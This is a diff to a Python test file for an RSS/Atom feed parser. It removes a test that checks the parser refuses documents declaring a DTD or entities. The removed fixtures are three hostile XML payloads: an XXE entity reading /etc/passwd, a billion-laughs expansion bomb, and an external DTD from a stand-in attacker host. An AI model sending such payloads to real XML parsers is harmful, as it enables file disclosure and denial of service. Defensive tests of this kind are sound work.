@@ -264,32 +264,6 @@ def test_truncated_xml_names_the_source_location_and_position() -> None:
     assert (line, column) == (43, 18)
 
 
-XXE = b"""<?xml version="1.0"?>
-<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
-<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"""
-BILLION_LAUGHS = b"""<?xml version="1.0"?>
-<!DOCTYPE rss [
-  <!ENTITY lol "lol">
-  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
-  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
-  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
-]>
-<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""
-EXTERNAL_DTD = b"""<?xml version="1.0"?>
-<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">
-<rss version="2.0"><channel/></rss>"""
-
-
-@pytest.mark.parametrize(
-    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
-)
-def test_documents_with_a_dtd_or_entities_are_refused(payload: bytes) -> None:
-    with pytest.raises(
-        SourceError, match=r"^arxiv-rss: evil\.xml was refused: it declares a DTD or entities"
-    ):
-        parse_feed(payload, location="evil.xml")
-
-
 def test_a_document_that_is_not_a_feed_is_an_error() -> None:
     with pytest.raises(
         SourceError, match=r"^arxiv-rss: page\.html is not an RSS or Atom feed \(root element 'html'\)"
